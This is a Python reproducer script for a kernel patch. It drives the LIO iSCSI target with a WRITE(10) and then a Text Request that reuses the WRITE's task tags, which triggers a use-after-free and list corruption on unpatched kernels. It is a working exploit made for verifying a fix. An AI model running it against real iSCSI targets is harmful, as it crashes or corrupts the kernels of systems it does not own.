#!/usr/bin/env python3
"""Send LIO a Text Request that continues a SCSI WRITE's task.

Reproducer for upstream/0005-scsi-target-iscsi-reject-text-continuation-of-non-text-task.patch.
It logs in to TARGET at PORTAL with this project's PDU-level initiator
(initiator/iscsi_initiator), InitialR2T=Yes, ImmediateData=No, sends a
WRITE(10) of one block without data, waits for the R2T that asks for it,
and then sends a Text Request whose ITT is the WRITE's and whose Target
Transfer Tag is the R2T's, as a continuation of a Text task would carry:

  empty        no data segment. Stock 6.1 and 6.12 rewrite the WRITE as
               a Text task (iscsit_setup_text_cmd: opcode, state, data
               direction), answer it with a Text Response and free it
               once ExpStatSN acknowledges that answer, while the target
               core still holds the WRITE waiting for its data: the
               release of the connection then uses a freed command.
  sendtargets  "SendTargets=All": besides that, iscsit_process_text_cmd
               adds the WRITE to conn_cmd_list a second time (list
               corruption; a list_add corruption report on kernels built
               with CONFIG_DEBUG_LIST).

A NOP-Out acknowledging every status follows, then the connection is
closed. With the patch LIO logs "Text Request ITT: ... continues a task
that is not a Text task", queues a Reject (reason 0x04, protocol error)
and closes the connection, which in the VM closes before the Reject gets
out; cxgbit-ext's offloaded path does the same before LIO sees the PDU.

What the target's kernel did is in its log (dmesg): the reproducer sees
only the PDUs. Run it only against a test target: on a stock kernel it
corrupts the target host's kernel. Example:

  upstream/reproducers/text_continuation.py 198.18.1.1 iqn.2026-11.org.cxgbit-ext:pdu --case empty
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import common
from common import watch

from iscsi_initiator.pdu import Op, Pdu, nop_out, scsi_command, text_request
from iscsi_initiator.session import Connection, ConnectionClosed, Params

BLOCK = 512
WRITE10 = struct.pack(">BBIBHB", 0x2A, 0, 0, 0, 1, 0)  # LBA 0, one block
CASES: dict[str, dict[str, str]] = {"empty": {}, "sendtargets": {"SendTargets": "All"}}


def answered_as_text(rsp: Pdu) -> str | None:
    return "the WRITE's task answered as a Text task" if rsp.opcode == Op.TEXT_RSP else None


def main(argv: list[str] | None = None) -> int:
    ap = common.parser(__doc__)
    ap.add_argument("--case", choices=sorted(CASES), default="empty")
    ap.add_argument("--wait", type=float, default=3, help="seconds to watch after each PDU sent")
    args = ap.parse_args(argv)

    host, port = args.portal
    c = Connection(host, port)
    c.login(args.initiator, args.target, Params(immediate_data=False, initial_r2t=True))
    itt = c.next_itt()
    print(f"sending WRITE(10), ITT 0x{itt:08x}, one block, no data (InitialR2T=Yes: the target asks for it)")
    c.send(scsi_command(WRITE10, itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn, write_len=BLOCK))
    c.cmdsn += 1
    r2ts = [p for p in watch(c, args.wait, answered_as_text).pdus if p.opcode == Op.R2T and p.itt == itt]
    if not r2ts:
        print("no R2T for the WRITE: nothing to continue; nothing more sent")
        c.close()
        return 2
    ttt = r2ts[0].ttt
    p = text_request(itt=itt, ttt=ttt, cmdsn=c.cmdsn, expstatsn=c.expstatsn, keys=CASES[args.case])
    print(f"sending a Text Request, ITT 0x{itt:08x} (the WRITE's), TTT 0x{ttt:08x} (the R2T's), {p.dlen} bytes")
    try:
        c.send(p)
        watch(c, args.wait, answered_as_text)
        print(f"sending a NOP-Out, ExpStatSN {c.expstatsn} (acknowledges every status so far)")
        c.send(nop_out(itt=c.next_itt(), cmdsn=c.cmdsn, expstatsn=c.expstatsn))
        watch(c, args.wait, answered_as_text)
    except (ConnectionClosed, ConnectionError):
        print("  the target dropped the connection")
    c.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
